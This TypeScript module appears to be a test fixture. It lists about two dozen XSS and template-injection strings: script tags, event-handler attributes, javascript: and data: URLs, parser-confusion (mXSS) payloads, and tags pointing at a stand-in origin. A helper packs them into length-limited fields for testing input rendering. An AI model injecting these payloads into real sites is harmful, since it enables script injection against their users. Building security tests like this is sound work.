/** The origin that the texts below would contact if they were rendered as markup. */
const FOREIGN_ORIGIN = 'https://elsewhere.test';

/**
 * Texts that have an effect as soon as one is rendered as markup, a link, or a template. The elements they would
 * create have the attribute `data-x`. None is longer than 100 characters, to fit into every field.
 */
export const MARKUP: readonly string[] = [
  '<script data-x>alert(1)</script>',
  `<script data-x src="${FOREIGN_ORIGIN}/1.js"></script>`,
  '<img data-x src=x onerror=alert(1)>',
  `<img data-x src="${FOREIGN_ORIGIN}/1.png">`,
  '"><svg data-x onload=alert(1)>',
  `'><b data-x onmouseover=alert(1) style="position:fixed;inset:0">`,
  '<iframe data-x src="javascript:alert(1)"></iframe>',
  '<iframe data-x srcdoc="<script>alert(1)</script>"></iframe>',
  `<object data-x data="${FOREIGN_ORIGIN}/1"></object>`,
  '<a data-x href="javascript:alert(1)">open</a>',
  '<a data-x href="data:text/html,<script>alert(1)</script>">open</a>',
  'javascript:alert(1)//',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  `<meta data-x http-equiv=refresh content="0;url=${FOREIGN_ORIGIN}">`,
  `<base data-x href="${FOREIGN_ORIGIN}">`,
  `<link data-x rel=stylesheet href="${FOREIGN_ORIGIN}/1.css">`,
  `<style data-x>@import "${FOREIGN_ORIGIN}/1.css"</style>`,
  `</title><form data-x id=root action="${FOREIGN_ORIGIN}"><input autofocus onfocus=alert(1)>`,
  '<details data-x open ontoggle=alert(1)>',
  '<video data-x><source onerror=alert(1)></video>',
  '<math><mtext><table><mglyph><style><img data-x src onerror=alert(1)>',
  '<noscript><p data-x title="</noscript><img src=x onerror=alert(1)>">',
  '&lt;img data-x src=x onerror=alert(1)&gt;',
  '\\u003cimg data-x src=x onerror=alert(1)\\u003e',
  `{{constructor.constructor('alert(1)')()}} \${alert(1)} #{alert(1)} <%= alert(1) %>`,
  '«<b data-x>» «</mark><img data-x src=x onerror=alert(1)>»',
];

/** Joins the texts up to this length each. */
export function packTexts(maxLength: number): string[] {
  const texts: string[] = [];
  for (const text of MARKUP) {
    const joined = `${texts.at(-1) ?? ''} ${text}`.trim();
    if (texts.length > 0 && joined.length <= maxLength) texts[texts.length - 1] = joined;
    else texts.push(text);
  }
  return texts;
}
